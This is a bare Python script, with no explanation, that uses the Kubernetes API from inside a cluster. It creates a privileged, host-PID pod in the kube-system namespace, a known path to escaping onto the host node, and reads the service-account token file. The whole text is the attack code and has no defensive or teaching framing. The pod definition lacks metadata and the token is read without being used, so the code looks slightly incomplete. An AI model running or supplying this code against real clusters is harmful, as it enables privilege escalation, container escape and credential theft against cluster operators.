from kubernetes import client, config
config.load_incluster_config()
spec = {'containers': [{'name': 'x', 'image': 'alpine', 'securityContext': {'privileged': True}}], 'hostPID': True}
client.CoreV1Api().create_namespaced_pod('kube-system', {'spec': spec})
open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()
